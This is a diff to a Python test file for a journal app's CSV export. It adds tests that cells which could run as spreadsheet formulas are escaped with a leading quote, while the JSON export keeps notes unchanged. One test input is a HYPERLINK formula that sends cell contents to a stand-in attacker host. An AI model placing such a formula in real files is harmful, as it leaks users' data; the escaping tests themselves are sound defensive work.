@@ -101,13 +101,40 @@ def test_csv_is_a_dated_attachment_and_not_cached(logged_in):
         'She said "press harder"',
         "Line one\nLine two\r\nLine three",
         "Dolor lumbar, mejoró — 腰痛 ✓",
-        "=1+2 looks like a formula",
+        "1+2 = 3, and a - b @ noon",
+        "'quoted' at the start",
+        "'",
     ],
 )
 def test_csv_quotes_notes_so_they_come_back_unchanged(logged_in, user, points, notes):
     PracticeSessionFactory(user=user, points=[points[0]], notes=notes)
     [row] = csv_rows(logged_in.get("/journal/export.csv"))
     assert row["notes"] == notes
+
+
+@pytest.mark.parametrize(
+    ("notes", "cell"),
+    [
+        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
+        ("=1+2", "'=1+2"),
+        ("+1 good day", "'+1 good day"),
+        ("-2 after pressing", "'-2 after pressing"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tindented", "'\tindented"),
+        ("\rreturn", "'\rreturn"),
+        # Already starting with ' before a formula: one more, so the import can tell them apart.
+        ("'=1+2", "''=1+2"),
+        ("''-", "'''-"),
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(
+    logged_in, user, points, notes, cell
+):
+    PracticeSessionFactory(user=user, points=[points[0]], notes=notes)
+    [row] = csv_rows(logged_in.get("/journal/export.csv"))
+    assert row["notes"] == cell
+    [session] = json.loads(content(logged_in.get("/journal/export.json")))["sessions"]
+    assert session["notes"] == notes
 
 
 def test_json_has_typed_values(logged_in, user, points):
